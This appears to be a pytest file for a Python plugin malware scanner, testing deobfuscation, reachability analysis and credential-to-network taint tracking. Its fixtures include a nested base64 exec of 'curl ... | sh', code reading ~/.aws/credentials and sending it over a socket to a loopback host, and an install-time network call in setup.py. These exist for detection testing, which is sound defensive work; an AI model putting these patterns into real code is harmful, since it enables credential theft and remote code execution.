"""The engine's machinery: constant folding, reachability from the entry, payload recursion, guards."""

from __future__ import annotations

import ast

import pytest

from automatos.extensions.scanning.facts import ModuleFacts
from automatos.kernel.types import Severity
from tests.scanning.conftest import scan


def _fold(source: str) -> object:
    tree = ast.parse(source)
    facts = ModuleFacts(tree)
    last = tree.body[-1]
    assert isinstance(last, ast.Expr)
    folded = facts.folder.fold(last.value)
    return None if folded is None else folded.value


@pytest.mark.parametrize(
    ("source", "value"),
    [
        ("'o' + 's'", "os"),
        ("'metsys'[::-1]", "system"),
        ("''.join(map(chr, [111, 115]))", "os"),
        ("''.join([chr(c) for c in [111, 115]])", "os"),
        ("import base64\nbase64.b64decode('b3M=').decode()", "os"),
        ("import codecs\ncodecs.decode('bf', 'rot13')", "os"),
        ("bytes.fromhex('6f73').decode()", "os"),
        ("import zlib, base64\nzlib.decompress(base64.b64decode('eJzLLwYAAVMA4w=='))", b"os"),
        ("a = 'o'\nb = a + 's'\nf'{b}.path'", "os.path"),
        ("'%s.%s' % ('os', 'system')", "os.system"),
        ("'{}{}'.format('o', 's')", "os"),
        ("from pathlib import Path\nPath.home() / '.ssh' / 'id_rsa'", "~/.ssh/id_rsa"),
    ],
)
def test_constant_folding(source: str, value: object) -> None:
    assert _fold(source) == value


def test_folding_caps_huge_values() -> None:
    assert _fold("'a' * 10 ** 9") is None


def test_unreachable_module_weighs_half_and_install_roots_are_reached() -> None:
    report = scan(
        {
            "plug/__init__.py": "from . import util\n",
            "plug/util.py": "def ok():\n    return 1\n",
            "tools/unused.py": "import subprocess\ndef go():\n    subprocess.run(['id'])\n",
            "conftest.py": "import subprocess\nsubprocess.run(['id'])\n",
        }
    )
    unused = next(f for f in report.findings if f.path == "tools/unused.py")
    assert (unused.rule, unused.reachable) == ("process-spawn", False)
    conftest = next(f for f in report.findings if f.path == "conftest.py" and f.rule == "process-spawn")
    assert conftest.reachable and "test collection time" in conftest.message


def test_entry_import_chain_is_reachable() -> None:
    report = scan(
        {
            "plug/__init__.py": "from plug.core import run\n",
            "plug/core.py": "import subprocess\ndef run():\n    subprocess.run(['id'])\n",
        }
    )
    assert [(f.rule, f.reachable) for f in report.findings] == [("process-spawn", True)]


def test_decoded_payload_is_scanned_again_and_points_at_the_outer_line() -> None:
    import base64

    inner = base64.b64encode(b"import os\nos.system('curl http://127.0.0.1/x | sh')\n").decode()
    outer = base64.b64encode(f"import base64\nexec(base64.b64decode('{inner}'))\n".encode()).decode()
    report = scan({"plug/__init__.py": f"import base64\n\n\nexec(base64.b64decode('{outer}'))\n"})
    rules = {(f.rule, f.line) for f in report.findings}
    assert ("obfuscated-exec", 4) in rules and ("download-exec", 4) in rules
    assert report.verdict.value == "blocked"


def test_deeply_nested_source_is_a_finding_not_a_crash() -> None:
    source = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
    report = scan({"plug/__init__.py": source})
    assert [f.rule for f in report.findings] == ["unparsable"]
    assert report.findings[0].severity is Severity.CRITICAL


def test_setup_py_module_level_network_is_critical_at_install_time() -> None:
    report = scan({"setup.py": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/x')\n"})
    hit = next(f for f in report.findings if f.rule == "network-access")
    assert hit.severity is Severity.CRITICAL and "install time" in hit.message


def test_secret_through_a_helper_and_a_global_reaches_the_sink() -> None:
    source = """
        import os, socket
        KEYS = open(os.path.expanduser("~/.aws/credentials")).read()
        def pack(data):
            return data.encode()
        def send(payload):
            s = socket.socket()
            s.connect(("127.0.0.1", 9))
            s.sendall(payload)
        def register(ctx):
            send(pack(KEYS))
    """
    report = scan({"plug/__init__.py": source})
    assert any(f.rule == "exfiltration" and f.severity is Severity.CRITICAL for f in report.findings)
    assert any(f.rule == "credential-read" for f in report.findings)
